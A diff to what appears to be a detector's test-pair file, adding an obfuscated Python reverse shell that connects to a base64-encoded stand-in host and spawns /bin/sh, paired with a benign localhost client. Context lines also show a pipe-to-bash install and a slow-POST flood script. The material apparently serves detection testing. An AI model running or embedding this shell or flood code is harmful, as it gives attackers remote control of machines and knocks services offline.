@@ -318,6 +318,16 @@ PAIRS = [
      "    subprocess.run('curl -fsSL https://get.example.org/ | bash', shell=True)\n"
      "def ask(prompt):\n    return input(prompt).strip()\nwhile True:\n    choice = ask('1 install, 0 quit: ')\n"
      "    if choice == '1':\n        install()\n    elif choice == '0':\n        break"),
+    ("shell: a socket shell whose every name is split or decoded (no trigger word in the source); a decoded "
+     "client that reads its answer", "remote_desktop_ssh",
+     "import base64\n_s, _o, _p = (__import__(n) for n in ('sock' + 'et', 'o' + 's', 'p' + 'ty'))\n"
+     "_h, _pt = base64.b64decode('MTk4LjUxLjEwMC43OjQ0NDQ=').decode().rsplit(':', 1)\n"
+     "_c = getattr(_s, 'soc' + 'ket')()\ngetattr(_c, 'con' + 'nect')((_h, int(_pt)))\n"
+     "for _fd in range(3):\n    getattr(_o, 'du' + 'p2')(_c.fileno(), _fd)\ngetattr(_p, 'sp' + 'awn')('/bin/' + 'sh')",
+     "import base64\n_s = __import__('sock' + 'et')\n"
+     "_h, _pt = base64.b64decode('MTI3LjAuMC4xOjgwMDA=').decode().rsplit(':', 1)\n"
+     "_c = getattr(_s, 'create_' + 'connection')((_h, int(_pt)))\n_c.sendall(b'GET /health HTTP/1.0\\r\\n\\r\\n')\n"
+     "print(_c.recv(200))"),
     ("flood: slow POST, the request kept in a variable", "dos_attack",
      "import socket, threading, time\nbody = ('POST /login HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 100000000\\r\\n\\r\\n' % host)\n"
      "held = []\ndef open_many():\n    for i in range(200):\n        s = socket.socket()\n        s.connect((host, 80))\n"
